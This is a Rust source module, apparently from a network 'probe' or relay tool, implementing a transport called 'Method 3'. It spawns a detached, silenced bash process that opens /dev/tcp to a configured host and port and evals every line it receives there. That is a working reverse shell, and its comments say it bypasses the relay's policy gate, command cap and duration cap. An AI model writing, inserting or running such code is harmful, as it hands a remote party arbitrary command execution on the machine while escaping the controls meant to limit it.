//! Method 3: detached shell redirect.
//!
//! Unlike the socket methods this never yields a stream for the relay. It
//! launches a detached `bash` process that opens `/dev/tcp/<host>/<port>` and
//! evaluates every line received on it. Success only means the process was
//! launched; the probe has no further control over it.
//!
//! # Preconditions
//!
//! - The execution policy must be `allow-all`. The launched shell bypasses the
//!   relay's policy gate, command cap and duration cap, so any narrower policy
//!   refuses it.
//! - A shell must be discoverable through the [`ShellLocator`].
//!
//! Either missing precondition is reported as `CapabilityUnavailable` and no
//! process is spawned.
//!
//! # Feature Gate
//!
//! This module is only compiled when the `shell_redirect` feature is enabled.

use std::process::Stdio;
use std::sync::Arc;

use async_trait::async_trait;
use tokio::process::Command;

use super::traits::{AttemptContext, Established, TransportStrategy};
use crate::probe::error::ProbeError;
use crate::probe::exec::{ExecPolicy, ShellLocator};
use crate::probe::target::ValidatedTarget;
use crate::probe::types::TransportMode;

pub struct ShellRedirect {
    locator: Arc<dyn ShellLocator>,
    policy: Arc<ExecPolicy>,
}

impl ShellRedirect {
    pub fn new(locator: Arc<dyn ShellLocator>, policy: Arc<ExecPolicy>) -> Self {
        Self { locator, policy }
    }
}

/// Script handed to `bash -c`.
///
/// The host is interpolated verbatim, which is only sound because validated
/// hosts are limited to alphanumerics, `-`, `.` and `:`.
pub(crate) fn redirect_script(target: &ValidatedTarget) -> String {
    format!(
        "exec 3<>/dev/tcp/{}/{} && echo \"Connected\" >&3 && cat <&3 | while read line; do eval \"$line\" 2>&1 >&3; done",
        target.host(),
        target.port()
    )
}

#[async_trait]
impl TransportStrategy for ShellRedirect {
    fn mode(&self) -> TransportMode {
        TransportMode::ShellRedirect
    }

    fn label(&self) -> &'static str {
        "Method 3"
    }

    async fn attempt(
        &self,
        target: &ValidatedTarget,
        ctx: &AttemptContext,
    ) -> Result<Established, ProbeError> {
        ctx.sink.info(format!(
            "{}: Attempting shell redirect connection to {}",
            self.label(),
            target
        ));

        if !self.policy.allows_unrestricted() {
            let err = ProbeError::CapabilityUnavailable(format!(
                "shell redirect requires the allow-all execution policy (current: {})",
                self.policy.mode()
            ));
            ctx.sink.error(format!("{}: {}", self.label(), err));
            return Err(err);
        }

        let Some(shell) = self.locator.locate() else {
            let err = ProbeError::CapabilityUnavailable("bash not found in system PATH".to_string());
            ctx.sink.error(format!("{}: {}", self.label(), err));
            return Err(err);
        };

        let spawned = Command::new(&shell)
            .arg("-c")
            .arg(redirect_script(target))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();

        match spawned {
            Ok(child) => {
                let pid = child.id();
                ctx.sink.success(format!(
                    "{}: shell redirect initiated successfully via {} (pid: {})",
                    self.label(),
                    shell.display(),
                    pid.map(|p| p.to_string()).unwrap_or_else(|| "unknown".to_string())
                ));
                // Dropping the handle leaves the process running; tokio reaps it.
                drop(child);
                Ok(Established::Detached { pid })
            }
            Err(e) => {
                let err = ProbeError::connect_failed(&e);
                ctx.sink.error(format!(
                    "{}: shell redirect failed - {}",
                    self.label(),
                    err
                ));
                Err(err)
            }
        }
    }
}
